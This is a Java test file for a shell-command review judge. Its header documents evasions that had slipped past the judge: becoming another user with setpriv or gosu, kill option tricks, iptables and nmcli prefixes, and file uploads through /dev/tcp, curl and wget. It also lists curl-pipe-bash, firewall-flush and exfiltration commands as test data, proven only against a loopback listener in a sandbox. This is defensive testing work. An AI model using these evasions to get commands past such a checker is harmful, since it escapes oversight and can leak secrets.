package dev.gatehouse.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Attack pass 17cm on 7a7b0274, on the review classes (sudo, package-change, service-change,
 * process-kill, firewall-change, remote-copy, curl-pipe-shell). Judge: {@link ShellJudgeTest#DEFAULT}.
 * Each text is judged as an exec request and as typed lines ({@code A ;; B} is typed as two lines).
 * Findings marked proven were run under bash 5.2 (Debian 12) in a throwaway bubblewrap sandbox
 * (its own pid, ipc, uts and network namespaces, {@code /} read-only, a private {@code /tmp}; no user
 * namespace, so that root in it may take uid 65534): {@link #provenInSandbox} runs them again.
 *
 * <p><b>U1, running as another user by an option</b> (allowed, sudo): {@code setpriv --reuid=65534
 * --regid=65534 --clear-groups id -u}, {@code capsh --uid=65534 -- -c 'id -u'}, {@code chroot
 * --userspec=65534:65534 / id -u}, {@code start-stop-daemon --start --chuid 65534 --exec
 * /usr/bin/id -- -u} each print 65534; {@code sg nogroup -c 'id -g'} prints 65534 (proven). gosu,
 * su-exec (containers' sudo), daemontools' {@code setuidgid}, s6's {@code s6-setuidgid}, runit's
 * {@code chpst -u} do the same by their manuals (not installed here). Fix: {@code
 * ShellClass.runsAsOtherUser}; those five names join SUDO_NAMES.
 *
 * <p><b>K2, kill's list and test options after a process</b> (allowed, process-kill): bash's kill
 * reads options only before the first process; {@code kill -9 PID -l} (also {@code -L}, {@code
 * --list}, {@code --table}) prints "arguments must be process or job IDs" and kills PID all the same
 * (status 137), and {@code kill -9 PID -0} kills PID and then process group 0, the caller's own
 * (proven). The class let a text go as soon as any word was {@code -l}/{@code -0}. Fix: {@code
 * ShellClass.killOnlyListsOrTests} reads them only in the option position ({@code kill -s 0 PID}, a
 * test, is now allowed as {@code kill -0 PID} was).
 *
 * <p><b>K3, other programs that signal processes</b> (allowed, process-kill): {@code start-stop-daemon
 * --stop --exec /usr/bin/sleep} and {@code -K -x …} killed a sleep (status 143: proven); {@code ss -K
 * dst 127.0.0.1} closed two established sockets (proven); {@code loginctl kill-user}/{@code
 * terminate-user}/{@code kill-session}/{@code terminate-session} (logind: not provable here;
 * loginctl(1)).
 *
 * <p><b>S2, supervisorctl's options with a value</b> (allowed, service-change): {@code supervisorctl
 * -c /etc/supervisord.conf restart all} (the file read as the verb; supervisorctl(1): -c, -s, -u,
 * -p, -r take a value; not installed here).
 *
 * <p><b>F2, iptables bundles and long prefixes, nft's joined words and prompt</b> (allowed,
 * firewall-change): {@code iptables -wF}, {@code -vF} (getopt bundles: -w then -F), {@code --app},
 * {@code --ins}, {@code --fl}, {@code --pol} (getopt_long takes a unique prefix); {@code nft 'flush
 * ruleset'} (nft joins its words into one command), {@code nft -i}/{@code --interactive} (commands
 * read at a prompt, unseen). Reported unfixed by 17cj; neither tool is installed here (not proven:
 * iptables(8) and nft(8), getopt_long(3)).
 *
 * <p><b>F3, nmcli's prefixes</b> (allowed, firewall-change): {@code nmcli c u x} (connection up),
 * {@code nmcli con d x} (down), {@code nmcli d dis eth0} (device disconnect): nmcli takes an object
 * and a command by any prefix, the first in its own order winning (nmcli(1); not installed here).
 *
 * <p><b>R2, uploads the remote-copy class did not read</b> (allowed, remote-copy): {@code cat f >
 * /dev/tcp/127.0.0.1/9999} (bash opens the socket itself), {@code curl --data-ascii @f}, {@code curl
 * -H @h} (the file's lines as headers), {@code curl --url-query @f} (curl 7.87+), {@code curl -K cfg}
 * with {@code upload-file = f} in cfg, {@code wget --post-f=f} and {@code --body-f=f --method=PUT}
 * (unique prefixes of --post-file/--body-file): each put the file's secret in what a loopback
 * listener received, where plain {@code curl URL} did not (proven). {@code curl --variable x@f}
 * (curl 8.3+: not here), {@code d=/dev/tcp; cat f > $d/127.0.0.1/9999} (the name from a variable:
 * remote-copy now judges the evaluated reading's redirections, as the path classes do; proven),
 * {@code aws --profile p s3 cp …} (a global option before the service) and
 * {@code aws s3api put-object --body f} (aws not installed: the AWS CLI reference).
 *
 * <p><b>P2, package changes by other names</b> (allowed, package-change): {@code npm isntall -g
 * --prefix /tmp/p /tmp/pkg}, {@code npm rm -g …}, {@code npm i --location=global …} installed and
 * removed a package in the given global prefix (proven, offline); npm's other aliases (in, ins,
 * inst, un, r, up, upgrade, link), {@code yarn global add}, {@code bun add -g}; {@code pip --proxy x
 * install foo} and {@code pip --cache-dir /tmp install foo} (the option's value was read as the verb;
 * pip's parser takes {@code install}: its help is install's, proven); dnf's aliases {@code in},
 * {@code rm}, {@code up}, {@code rei}, {@code dnf config-manager --add-repo}, {@code dnf copr
 * enable}, {@code dnf --enablerepo epel install} (dnf(8); not installed), {@code pacman --sy}/{@code
 * --syn} (getopt_long prefix of --sync; not installed); {@code cargo install}, {@code go install},
 * {@code uv pip install}, {@code uv tool install}, pipx's inject/upgrade/reinstall-all, {@code gem i}
 * (RubyGems' prefix of install), which put programs on the user's PATH.
 *
 * <p>Held: every curl-pipe-shell form tried (96 texts: a download piped through decoders, wrappers,
 * {@code bash <(curl …)}, {@code source <(curl …)}, {@code bash -c "$(curl …)"}, {@code /dev/stdin},
 * {@code /dev/fd/0}, nc/socat/openssl as the download) gets review; systemctl's verbs and options
 * ({@code -M}, {@code -t}, {@code --root}, {@code --job-mode}); ip's and tc's verb prefixes;
 * {@code sysctl} forms; {@code kill %1}, {@code pgrep | xargs kill}.
 *
 * <p>Left alone (reported): {@code git clone URL && bash URL/install.sh} (a local script run after a
 * clone: running a checked-out script is everyday work); {@code curl x | parallel} (GNU parallel runs
 * its input's lines; not installed); writes to {@code /proc/sys/net/…} by redirection ({@code echo 1 >
 * /proc/sys/net/ipv4/ip_forward}: firewall-change judges no paths; it would need a path class);
 * {@code docker restart/stop/kill}, {@code busctl}/{@code dbus-send}/{@code gdbus} calls of systemd's
 * StopUnit/RestartUnit, {@code svc -d}, {@code s6-rc -d change}, {@code svcadm} (service changes by
 * other programs); {@code ethtool -s/-K}, {@code
 * networkctl down}, {@code resolvectl dns}, {@code arp -s/-d}, {@code bridge … add}, {@code ipvsadm -C},
 * {@code wg set}, {@code xtables-*-multi iptables -F} (network changes outside the class's list);
 * {@code dpkg-divert}, {@code dpkg-statoverride}, {@code dpkg --add-architecture}, {@code apt-mark},
 * {@code gdebi}, {@code pkcon}, {@code opkg}, {@code luarocks}, {@code cpan}, {@code composer global},
 * {@code rustup}, {@code poetry}/{@code pipenv} (other package tools); {@code mail -A}, {@code mutt
 * -a}, {@code openssl s_client < f}, {@code python3 -m http.server} (other ways out).
 */
class ShellAttack17cmTest {
  static final ShellJudge DEFAULT = ShellJudgeTest.DEFAULT;


  @ParameterizedTest(name = "{0}: {1} -> {2} {3}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      U1 => setpriv --reuid=65534 --regid=65534 --clear-groups id -u => review => sudo
      U1 => setpriv --ruid 0 id => review => sudo
      U1 => setpriv --reu=0 id => review => sudo
      U1 => capsh --uid=65534 -- -c 'id -u' => review => sudo
      U1 => capsh --user=root -- -c id => review => sudo
      U1 => chroot --userspec=65534:65534 / id -u => review => sudo
      U1 => start-stop-daemon --start --chuid 65534 --exec /usr/bin/id -- -u => review => sudo
      U1 => sg nogroup -c 'id -g' => review => sudo
      U1 => gosu root id => review => sudo
      U1 => su-exec root id => review => sudo
      U1 => chpst -u root id => review => sudo
      U1 => setuidgid root id => review => sudo
      U1 => s6-setuidgid root id => review => sudo
      K2 => kill -9 1234 -l => review => process-kill
      K2 => kill -9 1234 -L => review => process-kill
      K2 => kill -9 1234 --list => review => process-kill
      K2 => kill -9 1234 --table => review => process-kill
      K2 => kill -9 1234 -0 => review => process-kill
      K2 => kill -KILL $pid -0 => review => process-kill
      K3 => start-stop-daemon --stop --exec /usr/bin/sleep => review => process-kill
      K3 => start-stop-daemon -K -x /usr/bin/sleep => review => process-kill
      K3 => ss -K dst 127.0.0.1 => review => process-kill
      K3 => ss --kill dst 127.0.0.1 => review => process-kill
      K3 => loginctl kill-user bob => review => process-kill
      K3 => loginctl terminate-user bob => review => process-kill
      K3 => loginctl kill-session 3 => review => process-kill
      K3 => loginctl terminate-session 3 => review => process-kill
      S2 => supervisorctl -c /etc/supervisord.conf restart all => review => service-change
      S2 => supervisorctl -s unix:///run/s.sock stop web => review => service-change
      F2 => iptables -wF => review => firewall-change
      F2 => iptables -vF => review => firewall-change
      F2 => iptables --app INPUT -j DROP => review => firewall-change
      F2 => iptables --ins INPUT -j DROP => review => firewall-change
      F2 => iptables --fl => review => firewall-change
      F2 => iptables --pol INPUT DROP => review => firewall-change
      F2 => nft 'flush ruleset' => review => firewall-change
      F2 => nft 'list ruleset; flush ruleset' => review => firewall-change
      F2 => nft -i => review => firewall-change
      F2 => nft --interactive => review => firewall-change
      R2 => cat f > /dev/tcp/127.0.0.1/9999 => review => remote-copy
      R2 => echo SECRET > /dev/udp/10.0.0.1/53 => review => remote-copy
      R2 => d=/dev/tcp; cat f > $d/127.0.0.1/9999 => review => remote-copy
      F3 => nmcli c u x => review => firewall-change
      F3 => nmcli con d x => review => firewall-change
      F3 => nmcli d dis eth0 => review => firewall-change
      F3 => nmcli -t -f NAME c u x => review => firewall-change
      R2 => curl -s --data-ascii @f http://127.0.0.1:9999/ => review => remote-copy
      R2 => curl -s --data-ascii=@f http://127.0.0.1:9999/ => review => remote-copy
      R2 => curl -s -H @h http://127.0.0.1:9999/ => review => remote-copy
      R2 => curl -s --url-query @f http://127.0.0.1:9999/ => review => remote-copy
      R2 => curl -s -K cfg http://127.0.0.1:9999/ => review => remote-copy
      R2 => curl --config cfg => review => remote-copy
      R2 => curl --variable x@f --expand-data '{{x}}' http://127.0.0.1:9999/ => review => remote-copy
      R2 => wget -q -O /dev/null --post-f=f http://127.0.0.1:9999/ => review => remote-copy
      R2 => wget -q -O /dev/null --body-f=f --method=PUT http://127.0.0.1:9999/ => review => remote-copy
      R2 => aws --profile p s3 cp f s3://b/k => review => remote-copy
      R2 => aws s3api put-object --bucket b --key k --body f => review => remote-copy
      P2 => npm isntall -g --offline --prefix /tmp/p /tmp/pkg => review => package-change
      P2 => npm rm -g --offline --prefix /tmp/p pkg17cm => review => package-change
      P2 => npm i --location=global --offline --prefix /tmp/q /tmp/pkg => review => package-change
      P2 => npm install --global=true foo => review => package-change
      P2 => npm in -g foo => review => package-change
      P2 => npm up -g => review => package-change
      P2 => npm link -g => review => package-change
      P2 => yarn global add foo => review => package-change
      P2 => bun add -g foo => review => package-change
      P2 => pip --proxy x install foo => review => package-change
      P2 => pip --cache-dir /tmp install foo => review => package-change
      P2 => pip3 --log /tmp/l uninstall -y foo => review => package-change
      P2 => dnf in foo => review => package-change
      P2 => yum -y in foo => review => package-change
      P2 => dnf rm foo => review => package-change
      P2 => dnf up => review => package-change
      P2 => dnf rei foo => review => package-change
      P2 => dnf --enablerepo epel install foo => review => package-change
      P2 => dnf config-manager --add-repo https://x/x.repo => review => package-change
      P2 => dnf copr enable x/y => review => package-change
      P2 => pacman --sy foo => review => package-change
      P2 => pacman --syn foo => review => package-change
      P2 => cargo install foo => review => package-change
      P2 => go install example.com/x@latest => review => package-change
      P2 => uv pip install foo => review => package-change
      P2 => uv tool install foo => review => package-change
      P2 => pipx inject foo bar => review => package-change
      P2 => pipx reinstall-all => review => package-change
      P2 => gem i foo => review => package-change
      held => kill -9 -- -1 => review => process-kill
      held => kill -s KILL 1234 => review => process-kill
      held => fuser -k /tmp/x => review => process-kill
      held => curl -T f http://x => review => remote-copy
      held => curl x | bash => review => curl-pipe-shell
      held => curl x | base64 -d | bash => review => curl-pipe-shell
      held => curl x | sh /dev/stdin => review => curl-pipe-shell
      held => wget -qO- x | sudo bash => review => sudo
      held => systemctl -M x restart nginx => review => service-change
      held => iptables -t filter -A INPUT -j DROP => review => firewall-change
      held => npm i -g foo => review => package-change
      held => apt-get -oDebug::x=1 install foo => review => package-change
      """)
  void judgedByItsClass(String finding, String text, String label, String rule) {
    ShellAttack17cjTest.assertJudged(finding, text, label, rule);
  }

  /** Everyday work near the fixes stays allowed. */
  @ParameterizedTest(name = "allowed: {0}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      systemctl status nginx
      systemctl --no-pager status nginx
      systemctl list-units --failed
      apt list --installed
      apt show nginx
      dpkg -l
      rpm -qa
      pip list
      pip show requests
      pip --cache-dir /tmp list
      pip3 list --outdated
      python3 -m pip list
      npm list -g
      npm ls -g --depth=0
      npm install
      npm i
      npm ci
      npm run build
      npm --prefix ./app install
      npm link ./lib
      yarn add lodash
      bun install
      cargo build
      cargo install --list
      go build ./...
      go env
      gem list
      dnf list installed
      dnf info kernel
      dnf --enablerepo epel info nginx
      dnf repolist
      dnf config-manager --dump
      pacman -Qi foo
      pacman -Ss foo
      uv pip list
      uv run pytest
      pipx list
      supervisorctl status
      supervisorctl -c /etc/supervisord.conf status
      kill -0 1234
      kill -s 0 1234
      kill -l
      kill -L
      kill -l 15
      kill -0 $(cat /run/nginx.pid)
      pgrep -f nginx
      loginctl list-sessions
      loginctl user-status bob
      start-stop-daemon --status --pidfile /run/x.pid
      ss -tlnp
      ss -s
      ss -tan state established
      iptables -L -n
      iptables -nvL
      iptables -t nat -nvL
      iptables -L INPUT --line-numbers
      iptables -S
      nft list ruleset
      nft -a list ruleset
      nft 'list ruleset'
      ip -br addr
      nmcli d s
      nmcli c s
      nmcli connection show
      nmcli -t -f DEVICE,STATE d
      nmcli d wifi list
      curl -s https://example.com
      curl -H 'Accept: application/json' https://example.com
      curl -H 'From: a@b.c' https://example.com
      curl --url https://u@example.com
      curl --url-query a=b https://example.com
      curl -u user:pass https://example.com
      wget -O x https://example.com
      wget --post-data a=b https://example.com
      aws s3 ls
      aws --profile p s3 ls
      cat f > /dev/null
      echo hi > /dev/stderr
      setpriv --dump
      setpriv --no-new-privs id
      capsh --print
      chroot /srv/root ls
      """)
  void everydayStaysAllowed(String text) {
    ShellAttack17cjTest.assertAllowed(text);
  }

  /** A loopback listener in the sandbox's own network namespace: it writes GOT True when it received SECRET. */
  private static final String LISTENER = """
      ip link set lo up
      python3 -c '
      import socket
      s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("127.0.0.1",9999));s.listen(1)
      print("ready",flush=True)
      c,_=s.accept();c.settimeout(2);d=b""
      try:
        while b"SECRET" not in d:
          x=c.recv(65536)
          if not x: break
          d+=x
      except Exception: pass
      c.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: 0\\r\\n\\r\\n");c.close()
      print("GOT", b"SECRET" in d, flush=True)' > /tmp/l.out &
      while ! grep -q ready /tmp/l.out 2>/dev/null; do sleep 0.05; done
      echo SECRET > /tmp/f; echo 'X-A: SECRET' > /tmp/h; printf 'upload-file = f\\n' > /tmp/cfg
      """;

  /**
   * Each finding run under bash in a throwaway sandbox (no user namespace: root in it, as the test
   * runs, may take uid 65534; its own network namespace, loopback only): the text's output holds the
   * expected line. The network ones run after {@link #LISTENER} and print what it got.
   */
  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(delimiterString = " => ", quoteCharacter = '~', textBlock = """
      U1 => setpriv --reuid=65534 --regid=65534 --clear-groups id -u => 65534
      U1 => capsh --uid=65534 -- -c 'id -u' => 65534
      U1 => chroot --userspec=65534:65534 / id -u => 65534
      U1 => start-stop-daemon --start --chuid 65534 --exec /usr/bin/id -- -u => 65534
      U1 => sg nogroup -c 'id -g' => 65534
      K2 => sleep 100 & p=$!; kill -9 $p -l 2>/dev/null; wait $p; echo rc=$? => rc=137
      K2 => sleep 100 & p=$!; kill -9 $p --table 2>/dev/null; wait $p; echo rc=$? => rc=137
      K2 => sleep 100 & p=$!; setsid -w bash -c "kill -9 $p -0; echo not-reached"; wait $p; echo rc=$? => rc=137
      K3 => sleep 30 & p=$!; sleep 0.5; start-stop-daemon --stop --quiet --exec /usr/bin/sleep; wait $p; echo rc=$? => rc=143
      K3 => sleep 30 & p=$!; sleep 0.5; start-stop-daemon -K -q -x /usr/bin/sleep; wait $p; echo rc=$? => rc=143
      R2 => cat f > /dev/tcp/127.0.0.1/9999 => GOT True
      R2 => d=/dev/tcp; cat f > $d/127.0.0.1/9999 => GOT True
      R2 => curl -s --data-ascii @f http://127.0.0.1:9999/ => GOT True
      R2 => curl -s -H @h http://127.0.0.1:9999/ => GOT True
      R2 => curl -s --url-query @f http://127.0.0.1:9999/ => GOT True
      R2 => curl -s -K cfg http://127.0.0.1:9999/ => GOT True
      R2 => wget -q -O /dev/null --post-f=f http://127.0.0.1:9999/ => GOT True
      R2 => wget -q -O /dev/null --body-f=f --method=PUT http://127.0.0.1:9999/ => GOT True
      control => curl -s http://127.0.0.1:9999/ => GOT False
      P2 => pip --proxy x install --help 2>/dev/null | sed -n 3p => pip install [options]
      P2 => pip --cache-dir /tmp/c install --help 2>/dev/null | sed -n 3p => pip install [options]
      P2 => mkdir pkg; echo '{"name":"pkg17cm","version":"1.0.0"}' > pkg/package.json; npm isntall -g --offline --prefix /tmp/p /tmp/pkg >/dev/null 2>&1; ls /tmp/p/lib/node_modules => pkg17cm
      P2 => mkdir pkg; echo '{"name":"pkg17cm","version":"1.0.0"}' > pkg/package.json; npm i --location=global --offline --prefix /tmp/q /tmp/pkg >/dev/null 2>&1; ls /tmp/q/lib/node_modules => pkg17cm
      """)
  void provenInSandbox(String finding, String text, String expected) throws Exception {
    String tool = text.startsWith("npm") || text.contains("; npm ") ? "npm" : text.startsWith("pip") ? "pip"
        : text.startsWith("curl") ? "curl" : text.startsWith("wget") ? "wget" : text.contains("start-stop-daemon")
            ? "start-stop-daemon" : text.split(" ")[0].matches("[a-z0-9-]+") ? text.split(" ")[0] : "bash";
    Assumptions.assumeTrue(onPath("bwrap") && onPath("bash") && onPath(tool) && onPath("python3") && onPath("ip"),
        "bwrap, bash, python3, ip and " + tool + " are needed");
    Assumptions.assumeTrue("root".equals(System.getProperty("user.name")), "the sandbox without a user namespace needs root");
    boolean network = expected.startsWith("GOT");
    String script = "cd /tmp\n" + (network ? LISTENER + text + "\nwait; cat /tmp/l.out\n" : text + "\n");
    List<String> cmd = new ArrayList<>(List.of("bwrap", "--unshare-ipc", "--unshare-pid", "--unshare-net", "--unshare-uts",
        "--die-with-parent", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp",
        "--setenv", "HOME", "/tmp", "--chdir", "/tmp", "bash", "-c", script));
    String out = TestPrograms.output(cmd);
    assertThat(out).as("%s: %s", finding, text).contains(expected);
    if (finding.equals("K2") && text.contains("not-reached")) {
      assertThat(out).doesNotContain("not-reached\n");
    }
  }

  private static boolean onPath(String name) {
    return TestPrograms.onPath(name);
  }
}
